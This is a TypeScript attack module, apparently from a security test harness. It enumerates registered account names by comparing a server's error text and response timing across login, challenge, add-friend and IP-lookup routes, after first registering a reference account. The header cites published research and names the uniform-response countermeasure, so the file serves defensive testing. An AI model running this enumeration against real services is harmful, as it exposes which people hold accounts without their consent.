/**
 * enumeration: finds out who is registered from answers that differ.
 *
 * What it does: asks on every route that takes a name, first about a name that she registered herself and one that
 * nobody did. A route whose answers differ for these two, in words or in time, tells about all other names.
 * Published: Hagen, Weinert, Sendner, Dmitrienko and Schneider, "All the Numbers are US: Large-scale Abuse of Contact
 * Discovery in Mobile Messengers", NDSS 2021; Gegenhuber and others, "Hey there! You are using WhatsApp", 2025.
 * What stops it: the same answer, after the same work, whether a name exists or not.
 */

import { register } from './account'
import type { Answer, Attack, Mallory } from './attack'
import { noop } from './noop'

interface Route {
  readonly name: string
  ask(mallory: Mallory, name: string): Promise<Answer>
}

const wrong = 'a wrong password'
const nothing = Buffer.alloc(32).toString('base64')
const signature = Buffer.alloc(256).toString('base64')

const routes: readonly Route[] = [
  {
    name: 'POST /login',
    ask: ({ request }, name) => request('POST', '/login', { body: { name, password: wrong } }),
  },
  {
    name: 'POST /login with a key',
    ask: ({ request }, name) => request('POST', '/login', { body: { name, challenge: nothing, signature } }),
  },
  {
    name: 'POST /login/challenge',
    ask: ({ request }, name) => request('POST', '/login/challenge', { body: { name } }),
  },
  {
    name: 'POST /add_friend',
    ask: ({ request, account }, name) =>
      request('POST', '/add_friend', { body: { name }, token: account!.token }),
  },
  {
    name: 'GET /get_ip',
    ask: ({ request, account }, name) => request('GET', `/get_ip?name=${name}`, { token: account!.token }),
  },
]

/** How often she asks about the names that she knows, before she asks about the others. */
const PRACTICE = 3

export const enumeration: Attack = {
  name: 'enumeration',
  about: 'finds out who is registered from answers that differ, in words or in time',
  prepare: noop.prepare,
  async strike(mallory) {
    if (!mallory.account) throw new Error('this attack needs an account')
    const candidates = mallory.told('candidates')
    mallory.acted(`asks the directory about ${candidates.length} names on ${routes.length} routes`)
    const mine = `mine-${mallory.random('name', 6).toString('hex')}`
    await register(mallory.request, mine, 'a password of hers')
    const judges = []
    for (const route of routes) judges.push(await practise(mallory, route, mine))
    for (const [index, name] of candidates.entries()) {
      let guess: boolean | undefined
      for (const judge of judges) guess ??= await judge(name)
      // Nothing tells: she tosses a coin.
      guess ??= mallory.random(name, 1).readUInt8() < 128
      mallory.guessed(name, guess ? 'registered' : 'free')
      if (index % 25 === 0) mallory.progress(index, candidates.length, 'names asked about')
    }
  },
}

type Judge = (name: string) => Promise<boolean | undefined>

/** @returns what tells from a route's answer whether a name exists, as far as it can. */
async function practise(mallory: Mallory, route: Route, mine: string): Promise<Judge> {
  const [known, unknown] = [[] as Look[], [] as Look[]]
  for (let n = 0; n < PRACTICE; n++) {
    known.push(await look(mallory, route, mine))
    unknown.push(
      await look(mallory, route, `free-${mallory.random(`${route.name} ${n}`, 6).toString('hex')}`),
    )
  }
  const [yes, no] = [known[0]!.words, unknown[0]!.words]
  const steady = known.every(({ words }) => words === yes) && unknown.every(({ words }) => words === no)
  if (steady && yes !== no) {
    return async (name) => {
      const { words } = await look(mallory, route, name)
      return words === yes ? true : words === no ? false : undefined
    }
  }
  const [slow, fast] = [known, unknown].map((looks) =>
    looks.map(({ time }) => time).sort((a, b) => a - b),
  ) as [number[], number[]]
  // In time they differ if the two ranges do not overlap; what lies between is told by the nearer one.
  const apart = slow[0]! > fast.at(-1)! || fast[0]! > slow.at(-1)!
  if (!apart || !steady) return async () => undefined
  const [middle, slower] = [(slow[1]! + fast[1]!) / 2, slow[1]! > fast[1]!]
  return async (name) => {
    const { words, time } = await look(mallory, route, name)
    return words === yes ? time > middle === slower : undefined
  }
}

interface Look {
  /** The answer without what differs from one to the next: numbers, random bytes and times. */
  readonly words: string
  readonly time: number
}

async function look(mallory: Mallory, route: Route, name: string): Promise<Look> {
  const began = performance.now()
  const { status, json } = await route.ask(mallory, name)
  const time = performance.now() - began
  const { error, ...others } = (json ?? {}) as { error?: { code: string; message: string } }
  return { words: `${status} ${error?.code} ${error?.message} ${Object.keys(others)}`, time }
}
